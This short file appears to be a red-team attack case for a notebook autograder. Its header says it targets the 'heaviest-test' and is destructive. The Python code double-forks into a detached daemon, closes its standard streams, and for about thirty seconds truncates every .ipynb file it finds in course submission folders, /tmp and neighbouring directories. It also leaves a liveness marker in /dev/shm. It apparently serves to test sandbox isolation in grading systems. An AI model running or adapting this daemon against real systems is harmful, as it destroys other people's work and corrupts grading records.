# attack: a daemon, forked twice and in a session of its own, waits for the next students and rewrites their files and the gradebook.
# target: heaviest-test
# destructive
# %% heaviest
import glob
import os
import time

heaviest = "tree-000"
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for fd in range(3):
            os.close(fd)
        for _ in range(600):
            for path in glob.glob("@COURSE@/submitted/*/target/*.ipynb") + glob.glob("/tmp/*/*.ipynb") + glob.glob("../../*/*/*.ipynb"):
                try:
                    open(path, "r+").truncate()
                except OSError:
                    pass
            try:
                open("/dev/shm/redteam_daemon", "w").write("alive")
            except OSError:
                pass
            time.sleep(0.05)
        os._exit(0)
    os._exit(0)
